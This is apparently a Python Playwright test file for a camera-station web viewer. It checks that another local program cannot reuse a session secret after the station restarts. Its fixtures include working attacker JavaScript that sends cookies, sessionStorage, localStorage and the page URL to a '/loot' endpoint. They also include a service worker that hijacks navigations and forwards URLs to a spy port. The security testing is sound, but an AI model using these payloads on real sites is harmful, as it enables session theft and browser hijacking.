"""What other programs of the computer learn from a browser that has the page open: nothing for the next start."""

import json
import re
import signal
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from types import TracebackType
from typing import Self
from urllib.parse import unquote

import pytest
from playwright.sync_api import Page, expect
from websockets.datastructures import Headers
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.http11 import Request, Response
from websockets.sync.client import connect
from websockets.sync.server import ServerConnection, serve

from gcs.keys.certificates import CertificateAuthority
from gcs.station.access import Access
from gcs.viewer.origin_gate import Address
from tests.station.conftest import NO_WEBGL, OpenPage
from tests.support.wire import LOOPBACK, PATIENCE_S, cordon, free_port, until_now

pytestmark = pytest.mark.browser

PAGE = "<!doctype html><title>foreign</title><script src='/foreign.js'></script>"
SCRIPT = """
const report = (text) => fetch("/loot?" + encodeURIComponent(text));
report([location.href, document.cookie, JSON.stringify(sessionStorage), JSON.stringify(localStorage)].join(" "));
navigator.serviceWorker.register("/worker.js")
  .then(() => navigator.serviceWorker.ready).then(() => report("installed"), (error) => report("refused " + error));
"""
WORKER = """
const script = 'fetch("http://127.0.0.1:SPY/loot?" + encodeURIComponent(location.href), {mode: "no-cors"})';
const html = {headers: {"Content-Type": "text/html"}};
addEventListener("install", () => skipWaiting());
addEventListener("fetch", (event) => {
  if (event.request.mode === "navigate") event.respondWith(new Response(`<script>${script}</script>`, html));
});
"""
"""Answers in place of every later server of the origin, and sends the address with its secret to another program."""


class Foreign:
    """Another user's server on loopback: serves scripts to the browser, plays a station, and keeps all that it gets."""

    def __init__(self, port: int, spy: int = 0) -> None:
        self.heard: list[str] = []
        self.headers: set[str] = set()
        self._files = {"/": ("text/html", PAGE), "/foreign.js": ("text/javascript", SCRIPT)}
        self._files["/worker.js"] = ("text/javascript", WORKER.replace("SPY", str(spy)))
        self._server = serve(self._play, LOOPBACK, port, process_request=self._answer)
        self._thread = threading.Thread(target=self._server.serve_forever)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._thread.join(PATIENCE_S)

    def _answer(self, connection: ServerConnection, request: Request) -> Response | None:
        self.heard.append(unquote(request.path))
        self.headers.update(name.lower() for name, _ in request.headers.raw_items())
        path = request.path.partition("?")[0]
        if path == "/stream":
            return None
        kind, text = self._files.get(path, ("text/plain", ""))
        headers = Headers({"Content-Type": kind, "Content-Length": str(len(text)), "Connection": "close"})
        return Response(200, "", headers, text.encode())

    def _play(self, connection: ServerConnection) -> None:
        """Send what a station sends, with proofs of nothing."""
        with suppress(ConnectionClosed):
            while True:
                hello = str(connection.recv(PATIENCE_S))
                self.heard.append(hello)
                connection.send(json.dumps({"kind": "challenge", "nonce": "0", "proof": "0", "salt": "0"}))
                connection.send(json.dumps({"kind": "entered", "ticket": "0"}))


@contextmanager
def station(mission: str, port: int, *options: str) -> Iterator[str]:
    """Run a station until the end of this context; return the URL that it prints."""
    with cordon("station", "--mission", mission, "--address", f"{LOOPBACK}:{port}", *options) as process:
        assert process.stderr is not None
        found = re.search(r"https?://\S+", process.stderr.readline())
        assert found is not None
        yield found[0]
        process.send_signal(signal.SIGINT)
        process.wait(PATIENCE_S)


def gets_pictures(port: int, secret: str) -> bool:
    """Return whether a station sends pictures to who has this secret."""
    prover = Access(Address(LOOPBACK, port), secret)
    try:
        with connect(f"ws://{LOOPBACK}:{port}/stream", proxy=None) as page:
            page.send(json.dumps({"kind": "hello", "nonce": "a nonce"}))
            while (answer := json.loads(page.recv(PATIENCE_S)))["kind"] == "challenge":
                page.send(json.dumps({"kind": "proof", "proof": prover.proof("page", "a nonce", answer["nonce"])}))
            return True
    except (ConnectionClosed, InvalidStatus):
        return False


def has_entered(page: Page) -> None:
    expect(page.locator("#mission")).to_have_text("case2")
    expect(page.locator("#entry")).to_be_hidden()


def test_a_program_that_takes_the_port_learns_nothing_for_the_next_start(
    open_page: OpenPage, mission_file: Callable[..., str], subtests: pytest.Subtests
) -> None:
    """A page without a secret says what to do, and takes it."""
    port, mission = free_port(), mission_file("case2")
    with Foreign(free_port()) as spy:
        spy_port = spy._server.socket.getsockname()[1]
        with station(mission, port) as first_url:
            kept, reloaded = (open_page(first_url, script=NO_WEBGL) for _ in range(2))
            for page in (kept, reloaded):
                has_entered(page)
                assert "#" not in page.url
            address, _, secret = first_url.partition("#")
            with subtests.test("a page without a secret"):
                page = open_page(address, script=NO_WEBGL)
                expect(page.locator("#entry-text")).to_contain_text("it ends with #")
                expect(page.locator("#entry-form")).to_be_hidden()
                page.evaluate(f"location.hash = {secret!r}")
                has_entered(page)
                page.close()
            with subtests.test("a reload within a start"):
                reloaded.reload()
                has_entered(reloaded)
            kept.context.new_page().goto(f"http://{LOOPBACK}:{spy_port}/")
            until_now(lambda: "installed" in "".join(spy.heard), "the visit of another program's page")
        with Foreign(port, spy_port) as foreign:
            until_now(lambda: "hello" in "".join(foreign.heard), "the open page's attempt to connect again")
            expect(kept.locator("#entry-text")).to_contain_text("Open the address that cordon printed last")
            reloaded.reload()
            until_now(lambda: "installed" in "".join(foreign.heard), "the other program's script in the browser")
        assert secret in "".join(foreign.heard), "the script has read the secret of the start that has ended"
        with station(mission, port) as second_url:
            with subtests.test("a page of the earlier start says what to do"):
                expect(kept.locator("#entry-text")).to_contain_text("Open the address that cordon printed last")
            with subtests.test("what both programs have"):
                assert not {"cookie", "authorization"} & {*foreign.headers, *spy.headers}
                texts = {word for text in (*foreign.heard, *spy.heard) for word in re.findall(r"[\w-]{32,}", text)}
                assert not any(gets_pictures(port, text) for text in {secret, *list(texts)[:5]})
            with subtests.test("what they have left in the browser"):
                page = open_page(second_url, script=NO_WEBGL)
                has_entered(page)
                assert page.evaluate("navigator.serviceWorker.controller") is None
                assert second_url.partition("#")[2] not in "".join((*foreign.heard, *spy.heard))


def test_a_token_opens_the_page_by_tls_also_after_the_next_start(
    open_page: OpenPage, mission_file: Callable[..., str], tmp_path: Path
) -> None:
    keys = CertificateAuthority.made(1.0).issue("station", 4e9)
    files = {"certificate": keys.certificate_pem, "key": keys.private_key_pem, "token": b"0123456789abcdef"}
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        (tmp_path / name).chmod(0o600)
    given = ("--tls", str(tmp_path / "certificate"), str(tmp_path / "key"), "--token-file", str(tmp_path / "token"))
    port, mission = free_port(), mission_file("case2")
    with station(mission, port, *given) as url:
        page = open_page(url.partition("#")[0], script=NO_WEBGL, ignore_https_errors=True)
        for token in ("another token...", "0123456789abcdef"):
            page.get_by_label("Token").fill(token)
            page.get_by_role("button", name="Open").click()
        has_entered(page)
        kept = page.evaluate("JSON.stringify(sessionStorage)")
        assert "0123456789abcdef" not in kept
    expect(page.locator("#link")).to_have_text("■ no station")
    with station(mission, port, *given) as next_url:
        assert next_url != url
        expect(page.locator("#link")).not_to_have_text("■ no station")
        has_entered(page)
